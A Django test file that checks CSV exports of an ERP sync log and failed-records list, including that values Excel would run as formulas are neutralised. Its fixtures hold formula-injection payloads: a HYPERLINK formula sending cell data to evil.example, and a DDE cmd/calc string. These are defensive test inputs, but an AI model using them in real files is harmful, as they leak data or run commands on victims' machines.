"""An admin downloads the sync log, as filtered on its page, and the failed records as CSV files Excel opens."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from connections.export import ROWS_PER_CHUNK, neutralise
from connections.models import ErpConnection, Link, SyncLogEntry, SyncRun

from .factories import (
    ContactFactory,
    ErpConnectionFactory,
    LinkFactory,
    ProjectFactory,
    SyncRunFactory,
    UserFactory,
)
from .permission_matrix import assert_access

pytestmark = pytest.mark.django_db
BOM = "\ufeff"


@pytest.fixture
def connection() -> ErpConnection:
    return ErpConnectionFactory.create(name="Demo ERP – Sweden", connector__name="Demo ERP")


@pytest.fixture
def logged(connection: ErpConnection) -> dict[str, Any]:
    """Three records, two runs, and log rows of each outcome and direction, some with values Excel would run."""
    smith = LinkFactory.create(connection=connection, erp_key="10001", company__name="Smith & Co")
    ingrid = LinkFactory.create(
        connection=connection,
        actor_type="Person",
        erp_key="P7",
        company=None,
        contact=ContactFactory.create(first_name="Ingrid", last_name="Öberg"),
    )
    rollout = LinkFactory.create(
        connection=connection,
        actor_type="Project",
        erp_key="PR9",
        company=None,
        project=ProjectFactory.create(name="ERP rollout"),
    )
    first = SyncRunFactory.create(connection=connection, status="succeeded")
    second = SyncRunFactory.create(link=smith, status="partially_failed")
    start = timezone.now() - timedelta(hours=1)

    def entry(minute: int, run: SyncRun, link: Link, field: str, outcome: str = "written", **values: Any) -> None:
        SyncLogEntry.objects.create(
            run=run,
            link=link,
            connection=connection,
            actor_type=link.actor_type,
            erp_key=link.erp_key,
            field_key=field,
            outcome=outcome,
            at=start + timedelta(minutes=minute),
            **values,
        )

    entry(
        1,
        first,
        smith,
        "NAME",
        direction="erp_to_crm",
        crm_field="name",
        old="Smith",
        new="Smith & Co",
        reason="changed in the ERP",
    )
    entry(
        2,
        first,
        smith,
        "PHONE",
        direction="crm_to_erp",
        crm_field="phone",
        old=None,
        new="+46 90 11",
        reason="changed in the CRM",
    )
    entry(
        3,
        first,
        ingrid,
        "EMAIL",
        direction="erp_to_crm",
        crm_field="email",
        old="a@b.se",
        new='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        reason="changed in the ERP",
    )
    entry(
        4,
        first,
        rollout,
        "BUDGET",
        direction="erp_to_crm",
        crm_field="budget",
        old=100,
        new=-12.5,
        reason="changed in the ERP",
    )
    entry(5, first, rollout, "TAGS", outcome="skipped", reason="@SUM(1+1) is not a list item")
    entry(
        0,
        first,
        ingrid,
        "CITY",
        direction="erp_to_crm",
        crm_field="postal_city",
        old='Göteborg "city"',
        new="Umeå\\Norr",
        reason="changed in the ERP",
    )
    entry(0, first, rollout, "FLAGS", direction="erp_to_crm", old=True, new=["A", "Ö"], reason="changed in the ERP")
    entry(6, second, smith, "COUNTRY", outcome="error", reason="no CRM item is mapped to ERP item NO")
    return {
        "connection": connection,
        "links": {"smith": smith, "ingrid": ingrid, "rollout": rollout},
        "runs": [first, second],
    }


@pytest.fixture
def admin_client(client: Client) -> Client:
    client.force_login(UserFactory.create(username="lars", perms=["connections.manage_erp_sync"]))
    return client


def download(client: Client, url: str, params: dict[str, Any] | None = None, **headers: Any) -> tuple[Any, str]:
    response: Any = client.get(url, params or {}, **headers)
    assert response.status_code == 200, response.status_code
    assert response.streaming, "the CSV must be streamed, not built in memory"
    return response, b"".join(response.streaming_content).decode("utf-8")


def table(body: str, delimiter: str = ",") -> list[list[str]]:
    assert body.startswith(BOM), "Excel needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(body[len(BOM) :]), delimiter=delimiter))


def log_url(logged: dict[str, Any], name: str = "connections:sync-log-export") -> str:
    return reverse(name, args=[logged["connection"].pk])


def test_the_sync_log_downloads_as_csv_newest_first_with_every_column(
    admin_client: Client, logged: dict[str, Any]
) -> None:
    response, body = download(admin_client, log_url(logged))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="sync-log-demo-erp-sweden-{today}.csv"'
    header, *rows = table(body)
    assert header == [
        "When",
        "Job",
        "Kind of job",
        "Record",
        "Actor type",
        "ERP key",
        "ERP field",
        "CRM field",
        "Direction",
        "Outcome",
        "Old value",
        "New value",
        "Why",
    ]
    assert [row[6] for row in rows] == ["COUNTRY", "TAGS", "BUDGET", "EMAIL", "PHONE", "NAME", "FLAGS", "CITY"]
    country, _tags, budget, _email, phone, name, flags, city = rows
    first, second = logged["runs"]
    assert country[1:6] == [str(second.pk), "Sync now", "Smith & Co", "Customer", "10001"]
    assert country[9:] == ["error", "", "", "no CRM item is mapped to ERP item NO"]
    assert name[1:] == [
        str(first.pk),
        "Sync all",
        "Smith & Co",
        "Customer",
        "10001",
        "NAME",
        "name",
        "ERP → CRM",
        "written",
        "Smith",
        "Smith & Co",
        "changed in the ERP",
    ]
    entry = SyncLogEntry.objects.get(field_key="NAME")
    assert name[0] == timezone.localtime(entry.at).strftime("%Y-%m-%d %H:%M:%S")
    assert phone[10:12] == ["", "'+46 90 11"]  # no value is empty; a leading + would start a formula
    assert budget[3] == "ERP rollout" and budget[10:12] == ["100", "-12.5"]  # numbers stay numbers
    assert [row[3] for row in rows if row[6] == "EMAIL"] == ["Ingrid Öberg"]
    # Text as it is, quotes, backslashes and all; anything else as JSON.
    assert city[10:12] == ['Göteborg "city"', "Umeå\\Norr"] and flags[10:12] == ["true", '["A", "Ö"]']


def test_values_excel_would_run_as_formulas_are_made_text(admin_client: Client, logged: dict[str, Any]) -> None:
    _response, body = download(admin_client, log_url(logged))
    cells = [cell for row in table(body) for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
    assert "'@SUM(1+1) is not a list item" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@") or (cell[:1] == "-" and cell != "-12.5")]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+46 90 11", "'+46 90 11"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("  =cmd|' /C calc'!A0", "'  =cmd|' /C calc'!A0"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("Smith & Co", "Smith & Co"),
        ("a=b", "a=b"),
        (42, 42),
        (None, None),
    ],
)
def test_neutralise_prefixes_formula_starts_and_leaves_numbers_and_text(value: Any, expected: Any) -> None:
    assert neutralise(value) == expected


@pytest.mark.parametrize(
    ("filters", "fields"),
    [
        ({}, ["COUNTRY", "TAGS", "BUDGET", "EMAIL", "PHONE", "NAME", "FLAGS", "CITY"]),
        ({"record": "Smith & Co"}, ["COUNTRY", "PHONE", "NAME"]),
        ({"record": "Öberg"}, ["EMAIL", "CITY"]),
        ({"record": "PR9"}, ["TAGS", "BUDGET", "FLAGS"]),
        ({"field": "phone"}, ["PHONE"]),
        ({"direction": "crm_to_erp"}, ["PHONE"]),
        ({"outcome": "error"}, ["COUNTRY"]),
        ({"outcome": "written", "direction": "erp_to_crm", "record": "Smith"}, ["NAME"]),
        (
            {"outcome": "not-an-outcome", "run": "x"},
            ["COUNTRY", "TAGS", "BUDGET", "EMAIL", "PHONE", "NAME", "FLAGS", "CITY"],
        ),
        ({"page": "2", "outcome": "skipped"}, ["TAGS"]),  # every matching row, whatever page was shown
    ],
)
def test_the_export_holds_exactly_what_the_page_lists_for_its_filters(
    admin_client: Client, logged: dict[str, Any], filters: dict[str, str], fields: list[str]
) -> None:
    _response, body = download(admin_client, log_url(logged), filters)
    exported = [(row[1], row[5], row[6]) for row in table(body)[1:]]
    assert [field for _run, _key, field in exported] == fields
    page_filters = {name: value for name, value in filters.items() if name != "page"}
    page = admin_client.get(log_url(logged, "connections:sync-log"), page_filters).context["page"]
    assert exported == [(str(e.run_id), e.erp_key, e.field_key) for e in page.object_list]


def test_a_run_filter_exports_that_run_only(admin_client: Client, logged: dict[str, Any]) -> None:
    _response, body = download(admin_client, log_url(logged), {"run": logged["runs"][1].pk})
    assert [row[6] for row in table(body)[1:]] == ["COUNTRY"]


def test_in_swedish_the_headers_labels_separator_and_file_name_are_swedish(
    admin_client: Client, logged: dict[str, Any]
) -> None:
    response, body = download(admin_client, log_url(logged), {"outcome": "written"}, HTTP_ACCEPT_LANGUAGE="sv")
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="synklogg-demo-erp-sweden-{today}.csv"'
    header, *rows = table(body, delimiter=";")
    assert header == [
        "När",
        "Jobb",
        "Typ av jobb",
        "Post",
        "Aktörstyp",
        "ERP-nyckel",
        "ERP-fält",
        "CRM-fält",
        "Riktning",
        "Utfall",
        "Gammalt värde",
        "Nytt värde",
        "Varför",
    ]
    name = next(row for row in rows if row[6] == "NAME")
    assert name[2] == "Synkronisera alla" and name[8:10] == ["ERP → CRM", "skrivet"]
    assert [row[3] for row in rows if row[6] == "EMAIL"] == ["Ingrid Öberg"]
    page = admin_client.get(log_url(logged, "connections:sync-log"), HTTP_ACCEPT_LANGUAGE="sv").content.decode()
    assert "Exportera CSV" in page


def test_the_download_is_sent_in_pieces_as_it_is_read(admin_client: Client, logged: dict[str, Any]) -> None:
    connection, link, run = logged["connection"], logged["links"]["smith"], logged["runs"][0]
    SyncLogEntry.objects.bulk_create(
        SyncLogEntry(
            run=run,
            link=link,
            connection=connection,
            actor_type="Customer",
            erp_key="10001",
            field_key="NOTE",
            outcome="written",
            old=f"note {n}",
            new=f"note {n + 1} " + "x" * 40,
        )
        for n in range(3000)
    )
    response: Any = admin_client.get(log_url(logged))
    chunks = list(response.streaming_content)
    # Sent in pieces of ROWS_PER_CHUNK rows as they are read, never as one whole file.
    assert len(chunks) == -(-(8 + 3000) // ROWS_PER_CHUNK) and max(len(chunk) for chunk in chunks) < 100 * 1024
    assert len(table(b"".join(chunks).decode())) == 1 + 8 + 3000


def test_the_sync_log_pages_keep_a_filter_with_an_ampersand(admin_client: Client, logged: dict[str, Any]) -> None:
    connection, link, run = logged["connection"], logged["links"]["smith"], logged["runs"][0]
    SyncLogEntry.objects.bulk_create(
        SyncLogEntry(
            run=run,
            link=link,
            connection=connection,
            actor_type="Customer",
            erp_key="10001",
            field_key="NOTE",
            outcome="written",
            old=str(n),
            new=str(n + 1),
        )
        for n in range(60)
    )
    url = log_url(logged, "connections:sync-log")
    first = admin_client.get(url, {"record": "Smith & Co"}).content.decode()
    assert "Page 1 of 2" in first
    assert 'href="?record=Smith+%26+Co&amp;page=2" rel="next"' in first
    export = reverse("connections:sync-log-export", args=[connection.pk])
    assert f'href="{export}?record=Smith+%26+Co" download' in first
    second = admin_client.get(f"{url}?record=Smith+%26+Co&page=2")
    assert "Page 2 of 2" in second.content.decode()
    assert {e.link_id for e in second.context["page"].object_list} == {link.pk}
    assert 'href="?record=Smith+%26+Co&amp;page=1" rel="prev"' in second.content.decode()
    # The export button on page 2 still holds the filter, and not the page.
    assert f'href="{export}?record=Smith+%26+Co" download' in second.content.decode()


def test_failed_records_download_as_csv(admin_client: Client, logged: dict[str, Any]) -> None:
    links = logged["links"]
    Link.objects.filter(pk=links["smith"].pk).update(status="failed", last_error="=CMD() is not a country")
    Link.objects.filter(pk=links["ingrid"].pk).update(status="erp_missing", last_error="The ERP has no such person.")
    Link.objects.filter(pk=links["rollout"].pk).update(
        status="failed", last_error="Too long", dismissed_at=timezone.now(), dismissed_reason="known"
    )
    page = admin_client.get(reverse("connections:failed-records", args=[logged["connection"].pk])).content.decode()
    export = reverse("connections:failed-records-export", args=[logged["connection"].pk])
    assert f'href="{export}" download' in page
    response, body = download(admin_client, export)
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="failed-records-demo-erp-sweden-{today}.csv"'
    assert table(body) == [
        ["Error", "Record", "Kind of record", "Actor type", "ERP key", "Status", "Last synced"],
        ["'=CMD() is not a country", "Smith & Co", "company", "Customer", "10001", "Failed", ""],
        ["The ERP has no such person.", "Ingrid Öberg", "contact", "Person", "P7", "Missing in the ERP", ""],
    ]
    _response, swedish = download(admin_client, export, HTTP_ACCEPT_LANGUAGE="sv")
    assert table(swedish, delimiter=";")[:2] == [
        ["Fel", "Post", "Typ av post", "Aktörstyp", "ERP-nyckel", "Status", "Senast synkroniserad"],
        ["'=CMD() is not a country", "Smith & Co", "företag", "Customer", "10001", "Misslyckades", ""],
    ]


def test_with_no_failed_records_there_is_no_export_button(admin_client: Client, logged: dict[str, Any]) -> None:
    page = admin_client.get(reverse("connections:failed-records", args=[logged["connection"].pk])).content.decode()
    assert "Export CSV" not in page
    _response, body = download(
        admin_client, reverse("connections:failed-records-export", args=[logged["connection"].pk])
    )
    assert len(table(body)) == 1  # the header only


def test_the_exports_are_for_erp_sync_admins_only(
    client: Client, logged: dict[str, Any], admin_user: Any, licensed_user: Any, outsider: Any
) -> None:
    users = {"admin": admin_user, "licensed": licensed_user, "outsider": outsider}
    for name in ("connections:sync-log-export", "connections:failed-records-export"):
        assert_access(
            client,
            users,
            reverse(name, args=[logged["connection"].pk]),
            {"anonymous": 302, "outsider": 403, "licensed": 403, "admin": 200},
        )
        client.force_login(admin_user)
        assert client.get(reverse(name, args=[logged["connection"].pk + 1000])).status_code == 404
